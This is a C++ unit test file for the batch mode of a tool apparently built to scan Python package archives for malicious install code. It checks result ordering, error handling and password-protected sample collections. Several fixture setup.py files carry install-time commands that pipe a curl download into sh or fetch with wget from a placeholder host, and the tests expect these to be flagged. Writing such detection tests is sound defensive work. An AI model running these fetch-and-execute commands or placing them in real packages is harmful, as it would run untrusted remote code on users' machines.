#include "analysis/batch.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "support/test_archives.h"
#include "util/file_util.h"

namespace pyward {
namespace {

namespace fs = std::filesystem;
using testing::File;

class BatchTest : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string data, err;
    ASSERT_TRUE(ReadFile(PYWARD_SOURCE_DIR "/data/rules/install-exec.txt", 1 << 20, &data, &err));
    ASSERT_TRUE(rules_.LoadFromData(data, &err)) << err;
    dir_ = fs::temp_directory_path() / ("pyward_batch_" + std::to_string(::getpid()));
    fs::create_directories(dir_ / "sub");
  }
  void TearDown() override { fs::remove_all(dir_); }
  void Write(const fs::path& p, const std::string& data) {
    std::ofstream(p, std::ios::binary) << data;
  }
  std::vector<ScanResult> Run(const std::vector<std::string>& args, BatchOptions opts,
                              std::vector<std::string>* notes) {
    Scanner scanner(&rules_, {});
    std::vector<ScanResult> out;
    RunBatch(scanner, PlanTargets(args, opts, notes), opts,
             [&](ScanResult&& r) { out.push_back(std::move(r)); }, nullptr);
    return out;
  }
  RuleSet rules_;
  fs::path dir_;
};

std::string Sdist(const std::string& name, const std::string& setup) {
  return testing::MakeTar({File(name + "-1.0/setup.py", setup)});
}

TEST_F(BatchTest, FolderOfArtifactsInOrderWithManyThreads) {
  for (int i = 0; i < 20; ++i) {
    char name[32];
    std::snprintf(name, sizeof name, "p%02d", i);
    Write(dir_ / (std::string(name) + "-1.0.tar.gz"),
          Sdist(name, i % 3 == 0 ? "import os\nos.system('curl http://x | sh')\n" : ""));
  }
  Write(dir_ / "sub" / "README.txt", "not an artifact");
  std::vector<std::string> notes;
  BatchOptions opts;
  opts.jobs = 4;
  std::vector<ScanResult> rs = Run({dir_.string()}, opts, &notes);
  ASSERT_EQ(rs.size(), 20u);
  for (int i = 0; i < 20; ++i) {
    char name[32];
    std::snprintf(name, sizeof name, "p%02d-1.0.tar.gz", i);
    EXPECT_EQ(fs::path(rs[i].target).filename(), name);
    EXPECT_EQ(rs[i].verdict, i % 3 == 0 ? Verdict::kMalicious : Verdict::kClean) << i;
  }
  ASSERT_EQ(notes.size(), 1u);
  EXPECT_NE(notes[0].find("README.txt"), std::string::npos);
}

TEST_F(BatchTest, BrokenTargetsDoNotStopTheOthers) {
  Write(dir_ / "good-1.0.tar.gz", Sdist("good", ""));
  std::string tgz = Sdist("bad", std::string(100000, 'x'));
  Write(dir_ / "bad-1.0.tar.gz", tgz.substr(0, tgz.size() / 2));
  std::vector<std::string> notes;
  std::vector<ScanResult> rs =
      Run({(dir_ / "bad-1.0.tar.gz").string(), (dir_ / "missing.whl").string(),
           (dir_ / "good-1.0.tar.gz").string()},
          {}, &notes);
  ASSERT_EQ(rs.size(), 3u);
  EXPECT_EQ(rs[0].verdict, Verdict::kError);
  EXPECT_EQ(rs[1].verdict, Verdict::kError);
  EXPECT_EQ(rs[2].verdict, Verdict::kClean);
}

TEST_F(BatchTest, EncryptedCollectionMembersAreTargets) {
  std::string coll = testing::MakeZip(
      {File("aa/evil-0.1.tar.gz", Sdist("evil", "import os\nos.system('wget http://x')\n")),
       File("bb/fine-1.0.tar.gz", Sdist("fine", ""))},
      "infected");
  Write(dir_ / "samples.zip", coll);
  BatchOptions opts;
  opts.jobs = 2;
  opts.zip_password = "infected";
  std::vector<std::string> notes;
  auto plan = PlanTargets({(dir_ / "samples.zip").string()}, opts, &notes);
  ASSERT_EQ(plan.size(), 1u);
  EXPECT_TRUE(plan[0].collection);
  EXPECT_EQ(plan[0].count, 2u);
  std::vector<ScanResult> rs = Run({(dir_ / "samples.zip").string()}, opts, &notes);
  ASSERT_EQ(rs.size(), 2u);
  EXPECT_EQ(rs[0].target, (dir_ / "samples.zip").string() + "!aa/evil-0.1.tar.gz");
  EXPECT_EQ(rs[0].verdict, Verdict::kMalicious);
  EXPECT_EQ(rs[0].package_name, "evil");
  EXPECT_EQ(rs[1].verdict, Verdict::kClean);

  opts.zip_password = "wrong";
  rs = Run({(dir_ / "samples.zip").string()}, opts, &notes);
  ASSERT_FALSE(rs.empty());
  EXPECT_EQ(rs.back().verdict, Verdict::kError);
  EXPECT_NE(rs.back().error->find("--zip-password"), std::string::npos) << *rs.back().error;
}

}  // namespace
}  // namespace pyward
